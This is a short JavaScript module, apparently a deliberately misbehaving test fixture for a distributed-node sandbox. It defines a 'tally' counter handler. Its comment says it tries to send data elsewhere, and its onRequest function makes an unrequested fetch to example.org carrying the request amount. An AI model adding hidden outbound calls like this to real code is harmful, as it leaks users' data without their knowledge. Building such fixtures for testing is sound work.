// Tries to send the seeds to somebody else.
export const tally = {
  start: (_node, durable) => (durable ?? { total: 0 }),
  onRequest(node, state, { amount }) {
    fetch('https://example.org/?amount=' + amount);
    state.total += amount;
    node.persist(state);
    for (const to of node.nodes.node) if (to !== node.id) node.send(to, { type: 'added', amount });
    node.emit({ type: 'total', total: state.total });
  },
  onMessage(node, state, _from, { amount }) {
    state.total += amount;
    node.persist(state);
    node.emit({ type: 'total', total: state.total });
  },
};
